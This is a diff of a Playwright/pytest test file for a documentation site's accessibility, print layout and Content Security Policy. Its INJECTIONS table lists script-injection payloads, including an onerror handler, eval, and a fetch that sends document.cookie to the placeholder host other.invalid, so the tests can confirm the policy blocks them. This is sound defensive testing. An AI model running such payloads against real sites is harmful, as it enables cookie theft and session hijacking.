@@ -41,7 +41,8 @@ SCHEMES: tuple[tuple[Literal["light", "dark"], str, dict[str, Any]], ...] = (
     ("dark", "slate", {"type": "rule", "values": ["color-contrast"]}),
 )
 """Scheme, the theme's name for it, what axe judges: only colours differ in the dark."""
-NAVIGATION = (".md-header", ".md-tabs", ".md-sidebar", ".md-footer", ".md-search", ".md-top", ".im-button", ".headerlink")
+NAVIGATION = (".md-header", ".md-tabs", ".md-sidebar", ".md-footer", ".md-search", ".md-top", ".headerlink")
+"""What nobody can use on paper."""
 STILL = "() => document.getAnimations().every(animation => animation.playState !== 'running')"
 
 
@@ -115,18 +116,20 @@ class Visit:
 
 
 @pytest.fixture(scope="module")
-def visit(browser: Browser, host: str) -> Callable[[str], Visit]:
+def visit(browser: Browser, host: str) -> Iterator[Callable[[str], Visit]]:
     """Loads a page once, whatever is then asked about it."""
+    context = browser.new_context(color_scheme="light")
 
     @functools.cache
     def look(path: str) -> Visit:
-        context = browser.new_context(viewport={"width": 1280, "height": 900}, color_scheme="light")
+        page = context.new_page()
         try:
-            return _look(context.new_page(), host, path)
+            return _look(page, host, path)
         finally:
-            context.close()
+            page.close()
 
-    return look
+    yield look
+    context.close()
 
 
 def _look(page: Page, host: str, path: str) -> Visit:
@@ -140,6 +143,7 @@ def _look(page: Page, host: str, path: str) -> Visit:
     page.on("pageerror", lambda error: seen.trouble.append(str(error)))
     page.on("response", lambda got: seen.trouble.append(f"{got.status} {got.url}") if got.status >= 400 else None)
     page.on("request", lambda asked: seen.elsewhere.append(asked.url) if not _is_own(asked.url, host) else None)
+    page.set_viewport_size({"width": 1280, "height": 900})
     page.goto(host + path)
     page.evaluate("for (const folded of document.querySelectorAll('details')) folded.open = true")
     page.evaluate(AXE_SCRIPT)
@@ -250,12 +254,16 @@ def test_a_checklist_is_boxes_and_labels_without_javascript(
 
 
 @pytest.mark.parametrize("list_", ["progress", "graduation"])
-def test_a_checklist_prints_its_boxes_and_nothing_to_click(context: BrowserContext, host: str, list_: str) -> None:
-    page = opened(context, f"{host}{TRAINEE}checklist/{list_}/")
+@pytest.mark.parametrize("kind", ["context", "plain"])
+def test_a_checklist_prints_its_boxes_and_nothing_to_click(
+    request: pytest.FixtureRequest, host: str, kind: str, list_: str
+) -> None:
+    page = opened(request.getfixturevalue(kind), f"{host}{TRAINEE}checklist/{list_}/")
     page.emulate_media(media="print")
     box = page.locator(".im-item input[type=checkbox]").first.bounding_box()
     assert box and box["width"] >= 8
     assert page.locator("button:visible").count() == 0
+    assert [name for name in NAVIGATION if page.locator(f"{name}:visible").count()] == []
 
 
 def test_a_printed_page_of_questions_holds_the_answers_and_no_menu(context: BrowserContext, host: str) -> None:
@@ -389,8 +397,8 @@ def test_an_answer_is_judged_and_its_reason_opens(context: BrowserContext, host:
 
 
 INJECTIONS = {
-    "script-src-attr": "box.innerHTML = '<img src=\"x\" onerror=\"window.hit = true\">'",
-    "script-src-elem": "const made = document.createElement('script'); made.text = 'window.hit = true'; box.append(made)",
+    "script-src-attr": 'box.innerHTML = \'<img src="x" onerror="window.hit = true">\'',
+    "script-src-elem": "const made = document.createElement('script'); made.text = 'hit = true'; box.append(made)",
     "script-src": "window.eval('window.hit = true')",
     "img-src": "const made = new Image(); made.src = 'http://other.invalid/x.png'; box.append(made)",
     "connect-src": "fetch('http://other.invalid/?' + document.cookie).catch(() => 0)",
